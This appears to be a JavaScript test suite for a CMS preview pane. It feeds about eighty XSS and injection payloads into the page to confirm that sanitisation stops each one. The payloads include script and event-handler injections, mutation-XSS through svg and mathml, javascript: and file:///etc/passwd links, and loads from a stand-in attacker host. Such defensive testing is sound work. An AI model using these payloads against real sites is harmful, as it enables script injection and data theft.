// Hostile content: what an author's file may hold when somebody else wrote it. Each attack runs in a
// text block of its own page and must leave nothing behind that acts, loads or hides.
import assert from 'node:assert/strict';
import { page } from './fragments.mjs';

/** `ELSEWHERE` is a host of the attacker; `pwn()` is what scripts want to call. */
const attacks = {
  'a script element': '<script>pwn()</script>',
  'a script from elsewhere': '<script src="ELSEWHERE/x.js"></script>',
  'a script with the nonce guessed': '<script nonce="n0nce">pwn()</script>',
  'an unfinished script': '<script>pwn()',
  'an image with an error handler': '<img src="x" onerror="pwn()">',
  'an image with handlers in odd letters': '<IMG SRC=x oNeRrOr=pwn()>',
  'a handler after a slash': '<img/src="x"/onerror=pwn()>',
  'a handler behind a broken attribute': '<img src=x """><img src=x onerror=pwn()>',
  'an svg with a load handler': '<svg onload="pwn()"></svg>',
  'a script in an svg': '<svg><script>pwn()</script></svg>',
  'an animation in an svg':
    '<svg><a><animate attributeName=href values=javascript:pwn() /><text x=20 y=20>x</text></a></svg>',
  'a foreign object': '<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>',
  'an svg use of another file': '<svg><use href="ELSEWHERE/x.svg#a"></use></svg>',
  'a style that breaks out of an svg': '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  'a table that breaks out of mathml':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  'a link with a script in mathml': '<math href="javascript:pwn()">x</math>',
  'nested forms that swap parents':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  'a script in noscript': '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  'a script in a template': '<template><script>pwn()</script></template>',
  'a comment that ends early': '<!--><img src=x onerror=pwn()>-->',
  'a conditional comment': '<!--[if gte IE 4]><script>pwn()</script><![endif]-->',
  'a CDATA section': '<![CDATA[<img src=x onerror=pwn()>]]>',
  'a link with a script': '<a href="javascript:pwn()">x</a>',
  'a link with a script in odd letters': '<a href=" &#14; jAvA&Tab;sCrIpT:pwn()">x</a>',
  'a link with a script in entities': '<a href="&#106;&#97;vascript&colon;pwn()">x</a>',
  'a link to data': '<a href="data:text/html,<script>pwn()</script>">x</a>',
  'a link to vbscript': '<a href="vbscript:pwn()">x</a>',
  'a link to a command of the editor': '<a href="command:workbench.action.quit">x</a>',
  'a link to a file': '<a href="file:///etc/passwd">x</a>',
  'an image from elsewhere': '<img src="ELSEWHERE/x.png">',
  'an image without a scheme': '<img src="//ELSEWHERE_HOST/x.png">',
  'an image with backslashes': '<img src="\\\\ELSEWHERE_HOST/x.png">',
  'an image with a line break in its address': '<img src="/\n/ELSEWHERE_HOST/x.png">',
  'an image above the site': '<img src="../../secret.png">',
  'an image above the site in escapes': '<img src="%2e%2e/%2e%2e/secret.png">',
  'an image at the root': '<img src="/secret.png">',
  'an image source set': '<img src="a.png" srcset="ELSEWHERE/x.png 2x">',
  'a picture with sources': '<picture><source srcset="ELSEWHERE/x.png"><img src="a.png"></picture>',
  'an svg as data':
    '<img src="data:image/svg+xml,<svg onload=pwn() xmlns=\'http://www.w3.org/2000/svg\'/>">',
  'an svg as data in base64': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+">',
  'an image with a low source': '<img lowsrc="ELSEWHERE/x.png" dynsrc="ELSEWHERE/y.png">',
  'a frame': '<iframe src="ELSEWHERE/"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  'a frame with a script': '<iframe src="javascript:parent.pwn()"></iframe>',
  'an object': '<object data="ELSEWHERE/x.svg"></object>',
  'an embedded file': '<embed src="ELSEWHERE/x.svg">',
  'an applet': '<applet code="x" archive="ELSEWHERE/x.jar"></applet>',
  'a video':
    '<video src="ELSEWHERE/x.mp4" poster="ELSEWHERE/x.png" autoplay onloadstart=pwn()></video>',
  'a sound': '<audio src="ELSEWHERE/x.mp3" autoplay></audio>',
  'a track': '<video><source onerror=pwn()><track src="ELSEWHERE/x.vtt"></video>',
  'a stylesheet': '<link rel="stylesheet" href="ELSEWHERE/x.css">',
  'a prefetch':
    '<link rel="prefetch" href="ELSEWHERE/x"><link rel="dns-prefetch" href="ELSEWHERE">',
  'an imported style': '<style>@import "ELSEWHERE/x.css"; body { display: none }</style>',
  'a style attribute':
    '<p style="position: fixed; inset: 0; background: url(ELSEWHERE/x.png)">x</p>',
  'a background attribute':
    '<table background="ELSEWHERE/x.png"><tr><td background="ELSEWHERE/y.png">x</td></tr></table>',
  'a base': '<base href="ELSEWHERE/"><img src="a.png">',
  'a redirect': '<meta http-equiv="refresh" content="0; url=ELSEWHERE/">',
  'a policy': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'a form':
    '<form action="ELSEWHERE/"><input name="x" autofocus onfocus=pwn()><button>Go</button></form>',
  'a form from outside':
    '<button form="f" formaction="javascript:pwn()">Go</button><input type="image" src="ELSEWHERE/x.png">',
  'a select and a text area':
    '<select onchange=pwn()><option>x</select><textarea autofocus onfocus=pwn()></textarea>',
  'an editable text': '<p contenteditable="true" onfocus=pwn() autofocus>x</p>',
  'details with a toggle handler': '<details open ontoggle=pwn()><summary>x</summary></details>',
  'a dialog': '<dialog open>x</dialog>',
  'a popover': '<p popover="auto" onbeforetoggle=pwn()>x</p>',
  'a marquee': '<marquee onstart=pwn()>x</marquee>',
  'a body': '<body onload=pwn() background="ELSEWHERE/x.png">',
  'a custom element': '<x-evil onclick=pwn()>x</x-evil><p is="x-evil">x</p>',
  'a shadow root':
    '<div><template shadowrootmode="open"><img src=x onerror=pwn()></template></div>',
  'a link that reports': '<a href="https://example.org" ping="ELSEWHERE/x" target="_blank">x</a>',
  'an id of the shell': '<p id="fix">x</p><p id="page">y</p>',
  'names that hide the document':
    '<img name="getElementById"><a id="querySelector"></a><form id="body"></form>',
  'an image map':
    '<img src="a.png" usemap="#m"><map name="m"><area href="javascript:pwn()" shape="default"></map>',
  'a frame set': '<frameset onload=pwn()><frame src="ELSEWHERE/"></frameset>',
  xml: '<?xml version="1.0"?><?xml-stylesheet href="ELSEWHERE/x.xsl"?><p>x</p>',
  'a null byte': '<scr\0ipt>pwn()</scr\0ipt><img src="x" on\0error=pwn()>',
  'deep nesting': `${'<div>'.repeat(600)}<img src=x onerror=pwn()>`,
  'a colour that loads': '<span class="kirby-swatch" data-color="url(ELSEWHERE/x.png)">x</span>',
  'a colour with more behind it':
    '<span class="kirby-swatch" data-color="red;background:url(ELSEWHERE/x.png)">x</span>',
};

/** What may be on the page at all: everything else is a hole. */
const allowed = new Set(
  (
    'A ABBR ADDRESS ARTICLE ASIDE B BDI BDO BIG BLOCKQUOTE BR CAPTION CENTER CITE CODE COL COLGROUP DD DEL DETAILS ' +
    'DFN DIV DL DT EM FIGCAPTION FIGURE FOOTER H1 H2 H3 H4 H5 H6 HEADER HR I IMG INS KBD KIRBY-SLOT LI MARK OL P ' +
    'PRE Q RP RT RUBY S SAMP SECTION SMALL SPAN STRIKE STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TIME ' +
    'TR TT U UL VAR WBR'
  ).split(' '),
);

async function attack(preview, html) {
  const host = new URL(preview.elsewhere).host;
  const hostile = html
    .replaceAll('ELSEWHERE_HOST', host)
    .replaceAll('ELSEWHERE', preview.elsewhere);
  await preview.page.evaluate(() => {
    globalThis.pwned = 0;
    globalThis.pwn = () => globalThis.pwned++;
  });
  await preview.show(page({ bad: hostile, good: '<p>still here</p>' }));
  const found = await preview.page.evaluate(() =>
    [...document.querySelectorAll('#page *:not(button.kirby-allow)')].map((element) => ({
      name: element.tagName,
      attributes: Object.fromEntries(
        [...element.attributes].map(({ name, value }) => [name, value]),
      ),
    })),
  );
  for (const { name, attributes } of found) {
    assert.ok(allowed.has(name), `<${name}> is on the page`);
    for (const [attribute, value] of Object.entries(attributes))
      check(name, attribute, value, preview.base);
  }
  for (const link of await preview.page.locator('#page a').all()) await link.dispatchEvent('click');
  // Whatever was going to load or run by itself has had its turn when a frame has been painted.
  await preview.page.evaluate(
    () => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0))),
  );
  assert.equal(await preview.page.evaluate(() => globalThis.pwned), 0, 'a script ran');
  assert.equal(await preview.page.locator('[data-key="c/good"]').innerText(), 'still here');
  assert.equal(await preview.page.locator('#fix').count(), 1);
  assert.equal(new URL(preview.page.url()).pathname, '/', 'the page went elsewhere');
  const loaded = preview.requests.filter(
    (url) => !/^\/(?:|preview(?:-text)?\.css|webview\.js|favicon\.ico|site\/.*)$/.test(url),
  );
  assert.deepEqual(loaded, []);
}

function check(element, name, value, base) {
  const where = `<${element} ${name}="${value}">`;
  assert.ok(!name.startsWith('on'), `${where} is on the page`);
  assert.ok(
    !/^(?:srcdoc|srcset|style|background|action|formaction|ping|target|name|is|form|poster|usemap|contenteditable|popover|autofocus)$/.test(
      name,
    ),
    `${where} is on the page`,
  );
  if (name === 'src')
    assert.ok(
      value.startsWith(base) || /^data:image\/(?:png|gif|jpeg|webp|avif);/.test(value),
      `${where} is on the page`,
    );
  if (name === 'href')
    assert.match(value, /^(?:(?:https?|mailto|tel):|[^:]*$|[#/.?])/, `${where} is on the page`);
  if (name === 'id') assert.match(value, /^user-content-/, `${where} is on the page`);
}

export const tests = {
  ...Object.fromEntries(
    Object.entries(attacks).map(([title, html]) => [
      `${title} does nothing`,
      { run: (preview) => attack(preview, html) },
    ]),
  ),

  'what authors write stays': {
    run: async (preview) => {
      const html =
        '<h2>Un titre</h2><p>Du <strong>texte</strong>, du <em>style</em>, un <a href="https://example.org/a?b=c">lien</a>,<br>' +
        'une <mark>marque</mark> et H<sub>2</sub>O.</p><ul><li>un</li></ul><ol start="3"><li>trois</li></ol>' +
        '<blockquote>Cité<footer>Elle</footer></blockquote><pre><code class="language-php">&lt;?php</code></pre>' +
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table><hr>';
      await preview.show(page({ a: html }));
      assert.equal(
        await preview.page.locator('[data-key="c/a"]').evaluate((e) => e.innerHTML),
        html,
      );
    },
  },

  'columns of a table are aligned as Markdown says': {
    run: async (preview) => {
      const cells = ['left', 'center', 'right'].map(
        (side) => `<td style="text-align: ${side};">a</td>`,
      );
      const html = `<table><tbody><tr>${cells.join('')}<td>a</td></tr></tbody></table>`;
      await preview.show(page({ a: html }));
      const shown = await preview.page
        .locator('#page td')
        .evaluateAll((all) => all.map((cell) => getComputedStyle(cell).textAlign));
      assert.deepEqual(shown, ['left', 'center', 'right', 'start']);
      assert.equal(await preview.page.locator('#page [style]').count(), 0);
    },
  },

  'an image of the site has its full address': {
    run: async (preview) => {
      await preview.show(page({ a: '<img src="content/1_a/with%20space.png" alt="A">' }));
      const image = preview.page.locator('#page img');
      assert.equal(await image.getAttribute('src'), `${preview.base}content/1_a/with%20space.png`);
      await preview.page.waitForFunction(
        () => document.querySelector('#page img').naturalWidth === 60,
      );
      assert.ok(preview.requests.includes('/site/content/1_a/with%20space.png'));
    },
  },

  'a base in another spelling is the same base': {
    run: async (preview) => {
      const base = preview.base.replace('127.0.0.1', '127.0.0.%31');
      await preview.show(page({ a: '<img src="a.png">' }), { base });
      assert.equal(
        await preview.page.locator('#page img').getAttribute('src'),
        `${preview.base}a.png`,
      );
    },
  },

  'an image elsewhere is named by its host': {
    run: async (preview) => {
      await preview.show(page({ a: `<img src="${preview.elsewhere}/x.png">` }));
      const box = preview.page.locator('#page .kirby-placeholder');
      assert.equal(
        await box.getAttribute('aria-label'),
        `Image not shown: ${new URL(preview.elsewhere).host}`,
      );
    },
  },

  'a frame is named by its host': {
    run: async (preview) => {
      await preview.show(page({ a: '<iframe src="https://maps.example.org/x"></iframe>' }));
      const box = preview.page.locator('#page .kirby-placeholder');
      assert.equal(
        await box.getAttribute('aria-label'),
        'Embedded iframe not shown: maps.example.org',
      );
    },
  },

  'a picture in the HTML itself is shown': {
    run: async (preview) => {
      const dot =
        'data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==';
      await preview.show(page({ a: `<img src="${dot}" alt="">` }));
      await preview.page.waitForFunction(
        () => document.querySelector('#page img')?.naturalWidth === 1,
      );
    },
  },

  'without a folder to start from no image is loaded': {
    run: async (preview) => {
      await preview.show(page({ a: '<img src="a.png">' }), { base: '' });
      assert.equal(await preview.page.locator('#page img').count(), 0);
      assert.equal(await preview.page.locator('#page .kirby-placeholder').count(), 1);
    },
  },

  'colours are painted': {
    run: async (preview) => {
      await preview.show(page({ a: '<span class="kirby-swatch" data-color="#252d8033">x</span>' }));
      const color = await preview.page
        .locator('.kirby-swatch')
        .evaluate((e) => getComputedStyle(e).backgroundColor);
      assert.equal(color, 'rgba(37, 45, 128, 0.2)');
    },
  },

  'stray end tags stay within their block': {
    run: async (preview) => {
      const stray = '<p>one</p></article></div></section></main><p>two</p>';
      await preview.show(page({ bad: stray, good: '<p>three</p>' }));
      assert.match(await preview.page.locator('[data-key="c/bad"]').innerText(), /one\s+two/);
      assert.equal(await preview.page.locator('[data-key="c"] > article').count(), 2);
    },
  },

  'content cannot take the place of other fragments': {
    run: async (preview) => {
      const thief =
        '<kirby-slot data-key="c/good"></kirby-slot><kirby-slot data-key="c"></kirby-slot>' +
        '<p data-key="c/good" tabindex="5">fake</p></article><article data-key="c/bad">second</article>';
      await preview.show(page({ bad: thief, good: '<p>real</p>' }));
      const good = preview.page.locator('[data-key="c/good"]');
      assert.equal(await good.count(), 1);
      assert.equal(await good.innerText(), 'real');
      assert.equal(await preview.page.locator('[data-key="c/bad"] [data-key="c/good"]').count(), 0);
      assert.equal(await preview.page.locator('[tabindex="5"]').count(), 0);
    },
  },

  'messages that are none are ignored': {
    run: async (preview) => {
      await preview.show(page({ a: '<p>here</p>' }));
      for (const message of [
        null,
        'update',
        {},
        { kind: 'update' },
        { kind: 'update', full: true, fragments: [{ key: 1 }] },
        { kind: 'mark', key: 3 },
      ]) {
        await preview.send(message);
      }
      assert.equal(await preview.page.locator('#page').innerText(), 'here');
    },
  },
};
